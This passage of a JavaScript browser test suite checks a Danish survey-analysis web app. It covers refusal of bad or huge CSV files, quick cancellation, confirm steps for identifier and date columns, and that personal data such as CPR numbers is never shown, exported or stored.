        assert.ok(seen.facts.includes(danishNumber(f.expected.rows, 0)), `${f.label}: wrong row count: ${seen.facts}`);
        await assertNumbersShown(page, f.expected);
        if (f.warn) assert.ok(seen.warnings.length > 0, `${f.label}: no warning`);
        // Back to the example for the next refusal.
        await loadExample(page);
        continue;
      }
      if (seen.rendered) {
        // Analysed after all: acceptable only with a warning naming the problem.
        assert.ok(seen.warnings.length > 0, `${f.label}: analysed without a warning`);
        await loadExample(page);
        continue;
      }
      assert.ok(seen.error.length > 15, `${f.label}: message too short: ${seen.error}`);
      assert.doesNotMatch(seen.error, RAW, `${f.label}: raw error: ${seen.error}`);
      assert.match(seen.error, DANISH, `${f.label}: message not in Danish: ${seen.error}`);
      assert.ok((await shownName()).includes('eksempel.csv'), `${f.label}: earlier results replaced`);
      assert.ok(await page.locator('#results').isVisible(), `${f.label}: results hidden`);
    }
    // Once in English: the message on screen is translated, and a new refusal comes in English.
    const danish = (await page.locator('#error').innerText()).trim();
    let before = await renderCount(page);
    await page.click('#lang-switch');
    await waitRender(page, before);
    const translated = (await page.locator('#error').innerText()).trim();
    if (danish) {
      assert.notEqual(translated, danish, 'message not translated');
      assert.match(translated, ENGLISH, `not English: ${translated}`);
    }
    for (const f of files.filter((x) => x.english)) {
      const seen = await offer(page, f.path);
      const entry = adversarial.find((a) => a.label === f.label);
      entry.english = seen.error || seen.warnings;
      if (!seen.rendered) {
        assert.match(seen.error, ENGLISH, `${f.label}: message not in English: ${seen.error}`);
        assert.notEqual(seen.error, entry.error, `${f.label}: same message in both languages`);
      }
    }
    // Still usable: a recompute on the dataset kept in the worker.
    assert.ok((await shownName()).includes('eksempel.csv'), 'earlier results replaced');
    before = await renderCount(page);
    await page.selectOption('#by', 'ydelse');
    await waitRender(page, before);
    assert.match(await page.locator('section.question').first().innerText(), /statistically significant/);
    assert.deepEqual(dialogs, [], 'dialogs');
    assert.deepEqual(page.errors, [], 'console errors');
  } finally {
    for (const a of adversarial) {
      const shown = a.rendered ? `analysed (${a.columns} columns); warnings: ${a.warnings.replace(/\n/g, ' | ') || 'none'}` : `refused: ${a.error}`;
      console.log(`  ${a.label} (${a.ms} ms): ${shown}${a.english ? ` / en: ${a.english}` : ''}`);
    }
    await context.close();
  }
});

/** Chooses a huge file and checks that the page either shows results or refuses it clearly. */
async function hugeFile(file, label) {
  const context = await newContext();
  try {
    const page = await openApp(context, appUrl);
    let crashed = false;
    page.on('crash', () => {
      crashed = true;
    });
    await loadExample(page);
    const seen = await offer(page, file, 30 * 60_000);
    const what = seen.rendered ? `analysed: ${seen.facts.replace(/\n/g, ' ')}; warnings: ${seen.warnings.replace(/\n/g, ' | ') || 'none'}` : `refused: ${seen.error}`;
    console.log(`  ${label} (${Math.round(seen.ms / 1000)} s): ${what}`);
    assert.ok(!crashed, 'the tab crashed');
    assert.doesNotMatch(seen.error, /intern fejl/, `the worker crashed: ${seen.error}`);
    if (!seen.rendered) {
      assert.doesNotMatch(seen.error, RAW, `raw error: ${seen.error}`);
      assert.match(seen.error, DANISH, `not Danish: ${seen.error}`);
      assert.ok((await page.locator('#facts').innerText()).includes('eksempel.csv'), 'earlier results replaced');
    }
    // Still usable.
    const before = await renderCount(page);
    await page.selectOption('#by', { index: 1 });
    await waitRender(page, before);
  } finally {
    await context.close();
  }
}

test('huge files (2.5 GB, sparse and full of rows): results or a clear refusal, the tab survives', async () => {
  if (!HUGE) return SKIPPED;
  // As on disk after a crashed export: a few rows, then 2.5 GB of zero bytes (a sparse file).
  const sparse = path.join(tmp, 'kaempe-tom.csv');
  let fd = fs.openSync(sparse, 'w');
  fs.writeSync(fd, `ydelse;Hvor tilfreds er du?\r\n${'Fleksjob;Tilfreds\r\n'.repeat(10)}`);
  fs.ftruncateSync(fd, 2.5e9);
  fs.closeSync(fd);
  try {
    await hugeFile(sparse, '2.5 GB sparse');
  } finally {
    fs.rmSync(sparse, { force: true });
  }
  // The same size filled with survey rows, so every byte has to be streamed and counted.
  const base = generate('kaempe-grundlag', ['--rows', '20000', '--seed', '41', '--encoding', 'utf-8', '--delimiter', ';']);
  const text = fs.readFileSync(base.path);
  const cut = text.indexOf('\r\n') + 2;
  const dense = path.join(tmp, 'kaempe.csv');
  fd = fs.openSync(dense, 'w');
  fs.writeSync(fd, text.subarray(0, cut));
  const body = text.subarray(cut);
  for (let size = cut; size < 2.5e9; size += body.length) fs.writeSync(fd, body);
  fs.closeSync(fd);
  try {
    await hugeFile(dense, `${(fs.statSync(dense).size / 1e9).toFixed(2)} GB of rows`);
  } finally {
    fs.rmSync(dense, { force: true });
  }
});

test('cancel takes effect within 500 ms on a 150 MB file; the results stay', async () => {
  const big = generate('stor', ['--rows', '700000', '--seed', '3', '--encoding', 'utf-8', '--delimiter', ';']);
  const context = await newContext();
  try {
    const page = await openApp(context, appUrl);
    await loadExample(page);
    await page.setInputFiles('#file', big.path);
    await page.waitForSelector('#progress-box:not([hidden])');
    // Cancel once the first bytes are counted: a fixed wait can outlast the reading itself
    // (150 MB take about half a second).
    await page.waitForFunction(() => document.getElementById('progress').value > 0);
    const ms = await page.evaluate(() => new Promise((resolve) => {
      const start = performance.now();
      document.getElementById('cancel').click();
      const poll = () => {
        if (document.getElementById('progress-box').hidden && /annulleret/.test(document.getElementById('status').textContent)) {
          resolve(performance.now() - start);
        } else if (performance.now() - start > 10000) resolve(Infinity);
        else setTimeout(poll, 5);
      };
      poll();
    }));
    console.log(`  cancelled after ${Math.round(ms)} ms`);
    assert.ok(ms < 500, `cancel took ${Math.round(ms)} ms`);
    assert.ok((await page.locator('#facts').innerText()).includes('eksempel.csv'), 'earlier results replaced');
    // The page goes on: a recompute and a new file both work.
    await page.waitForSelector('body[data-ready="true"]');
    await selectBreakdown(page, 'ydelse');
    assert.ok((await page.locator('h5').count()) > 0, 'no breakdown after cancel');
    assert.ok((await page.locator('#facts').innerText()).includes('eksempel.csv'), 'earlier results replaced');
    const small = generate('lille', ['--rows', '500', '--seed', '4', '--encoding', 'utf-8', '--delimiter', ';']);
    await chooseFile(page, small);
    assert.ok((await page.locator('#facts').innerText()).includes('lille.csv'), 'a new file after cancel');
    assert.deepEqual(page.errors, [], 'console errors');
  } finally {
    await context.close();
  }
});

test('identifiers and dates become categories only after a confirm, and nearly unique ones never', async () => {
  const context = await newContext();
  try {
    const page = await openApp(context, appUrl);
    await loadExample(page);
    await page.locator('#columns-box summary').click();
    const row = (name) => page.locator('#columns tbody tr').filter({ has: page.locator('th', { hasText: name }) });
    // 1,500 respondent numbers in 1,500 answers: counting them one by one is refused.
    let before = await renderCount(page);
    await row('respondent_id').locator('select').selectOption('category');
    await page.waitForTimeout(300);
    assert.equal(await renderCount(page), before, 'recomputed for a refused kind');
    assert.equal(await row('respondent_id').locator('select').inputValue(), 'id');
    assert.match(await page.textContent('#status'), /næsten lige så mange forskellige værdier/);
    // Dates: a confirm step; cancelling it changes nothing, confirming shows the values.
    const date = row('besvarelsesdato');
    await date.locator('select').selectOption('category');
    assert.ok(await date.getByRole('group').isVisible(), 'no confirm step for dates as categories');
    await date.getByRole('button', { name: 'Fortryd' }).click();
    await page.waitForTimeout(200);
    assert.equal(await renderCount(page), before, 'cancelling recomputed');
    assert.equal(await date.locator('select').inputValue(), 'date');
    await date.locator('select').selectOption('category');
    await date.getByRole('button', { name: 'Ja, vis værdierne' }).click();
    await waitRender(page, before);
    assert.equal(await row('besvarelsesdato').locator('select').inputValue(), 'category');
    // The choice is not stored: a reload starts from the recognised kind.
    const stored = await page.evaluate(() => JSON.stringify({ ...localStorage }));
    assert.ok(!stored.includes('besvarelsesdato'), `a header in storage: ${stored}`);
  } finally {
    await context.close();
  }
});

test('personal data: excluded by default, included only after a confirm, never stored, reset', async () => {
  const context = await newContext();
  const personal = makePersonalFile(8);
  try {
    const page = await openApp(context, appUrl);
    const stored = await page.evaluate(() => JSON.stringify({ ...localStorage }));
    await chooseFile(page, personal);
    await page.locator('#columns-box summary').click();
    const row = (name) => page.locator('#columns tbody tr').filter({ has: page.locator('th', { hasText: name }) });
    const cpr = row('CPR-nummer');
    const comment = row('Kommentar');
    const cprIndex = Number((await cpr.locator('select').getAttribute('id')).replace('col-kind-', ''));
    assert.match(await cpr.innerText(), /Personoplysninger – udeladt/, 'CPR column not excluded');
    assert.match(await comment.innerText(), /Personoplysninger – udeladt/, 'free-text column not excluded');
    assert.ok(!(await page.locator('#by option').allTextContents()).includes('CPR-nummer'), 'CPR offered as a grouping');

    // Including needs a second, explicit step; cancelling it changes nothing.
    const include = cpr.getByRole('button', { name: /Medtag alligevel/ });
    assert.equal(await include.count(), 1, 'no "Medtag alligevel" for the CPR column');
    await include.click();
    const confirmBox = cpr.getByRole('group');
    assert.ok(await confirmBox.isVisible(), 'no confirm step');
    let before = await renderCount(page);
    await cpr.getByRole('button', { name: 'Fortryd' }).click();
    await page.waitForTimeout(200);
    assert.equal(await renderCount(page), before, 'cancelling the confirm recomputed');
    assert.match(await cpr.innerText(), /udeladt/);
    await include.click();
    before = await renderCount(page);
    await cpr.getByRole('button', { name: 'Ja, medtag' }).click();
    await waitRender(page, before);
    assert.match(await row('CPR-nummer').innerText(), /medtaget efter dit valg/, 'CPR column not included after confirming');
    // An id stays an id: its kind cannot be changed into something that would show values.
    assert.ok(await page.locator(`#col-kind-${cprIndex}`).isDisabled(), 'the kind of the included CPR column can be changed');
    assert.ok(!(await page.locator('#by option').allTextContents()).includes('CPR-nummer'), 'CPR offered as a grouping');

    // The free-text column too, then everything the page shows and exports.
    await comment.getByRole('button', { name: /Medtag alligevel/ }).click();
    before = await renderCount(page);
    await comment.getByRole('button', { name: 'Ja, medtag' }).click();
    await waitRender(page, before);
    await selectBreakdown(page, 'Bopælskommune');
    for (const d of await page.locator('#groups details').all()) await d.locator('summary').click();
    await page.locator('#mapping-box > summary').click();
    const text = await page.evaluate(() => document.body.innerText + document.body.textContent);
    const values = await page.evaluate(() => [...document.querySelectorAll('input, select, option')].map((e) => e.value).join('\n'));
    const csv = await downloadAll(page, 'Hent tabel som CSV');
    const svg = await downloadAll(page, 'Hent diagram som SVG');
    const everything = [text, values, ...csv.map((d) => d.text), ...svg.map((d) => d.text)].join('\n');
    const leaked = personal.cprs.filter((c) => everything.includes(c) || everything.includes(c.replace('-', '')));
    assert.deepEqual(leaked.slice(0, 3), [], 'CPR numbers shown after including the column');
    assert.doesNotMatch(everything, /\b[0-3]\d[01]\d\d\d-?\d{4}\b/, 'a CPR-like number is shown');

    // Never stored; reset for the next file (the same file chosen again counts as new).
    assert.equal(await page.evaluate(() => JSON.stringify({ ...localStorage })), stored, 'localStorage changed');
    assert.equal(await page.evaluate(() => JSON.stringify({ ...sessionStorage })), '{}', 'sessionStorage changed');
    await chooseFile(page, personal);
    assert.match(await row('CPR-nummer').innerText(), /Personoplysninger – udeladt/, 'inclusion carried over to a new file');
    assert.match(await row('Kommentar').innerText(), /Personoplysninger – udeladt/, 'inclusion carried over to a new file');
    await page.reload();
    await page.waitForSelector('body[data-ready="true"]');
    await chooseFile(page, personal);
    await page.locator('#columns-box summary').click();
    assert.match(await row('CPR-nummer').innerText(), /udeladt/, 'inclusion came back after a reload');
    // In English the control has its English name.
    before = await renderCount(page);
    await page.click('#lang-switch');
    await waitRender(page, before);
    assert.equal(await row('CPR-nummer').getByRole('button', { name: /Include anyway/ }).count(), 1, 'no "Include anyway"');
    assert.deepEqual(page.errors, [], 'console errors');
  } finally {
    await context.close();
  }
});

// ---------------------------------------------------------------------------------------------

async function main() {
  server = await startServer({ mounts: { '/': WWW } });
  appUrl = `${server.origin}/`;
  browser = await launchBrowser();
  const started = Date.now();
  let passed = 0;
  let failed = 0;
  try {
    ({ passed, failed } = await runTests(tests, only));
  } finally {
    await browser.close();
    await server.close();
    if (!argv.includes('--keep')) fs.rmSync(tmp, { recursive: true, force: true });
  }
  console.log(`privacy: ${passed} passed, ${failed} failed (${Math.round((Date.now() - started) / 1000)} s)`);
  process.exit(failed === 0 ? 0 : 1);
}

main().catch((err) => {
  console.error(err);
  process.exit(1);
});
